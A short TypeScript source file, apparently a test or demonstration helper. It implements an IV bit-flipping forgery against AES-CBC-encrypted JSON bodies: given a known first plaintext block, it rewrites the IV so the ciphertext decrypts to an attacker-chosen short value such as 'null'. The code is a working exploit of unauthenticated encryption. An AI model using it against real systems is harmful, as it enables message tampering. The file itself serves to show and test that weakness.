/**
 * What an attacker without the encrypt key can do to a captured encrypted body: AES-CBC lets
 * them choose the first plaintext block by changing the IV, if they know what it was.
 */

/**
 * Rewrites a body `{"encrypt":"..."}` to IV' ‖ C1, where IV' = IV ⊕ known ⊕ target: it then decrypts to
 * exactly `target` (at most 15 bytes, PKCS#7 padded), e.g. "null". `known` is the first 16 bytes of
 * the plaintext; every schema 2.0 event starts with `{"schema":"2.0",`.
 */
export function forgeFirstBlock(options: { body: string; target: string; known?: string }): string {
  const known = Buffer.from(options.known ?? '{"schema":"2.0",', "utf8");
  const target = Buffer.from(options.target, "utf8");
  if (known.length !== 16 || target.length > 15) throw new Error("known must be 16 bytes and target at most 15");
  const padded = Buffer.concat([target, Buffer.alloc(16 - target.length, 16 - target.length)]);
  const payload = Buffer.from((JSON.parse(options.body) as { encrypt: string }).encrypt, "base64");
  const iv = Buffer.alloc(16);
  for (let index = 0; index < 16; index += 1) iv[index] = payload[index]! ^ known[index]! ^ padded[index]!;
  return JSON.stringify({ encrypt: Buffer.concat([iv, payload.subarray(16, 32)]).toString("base64") });
}
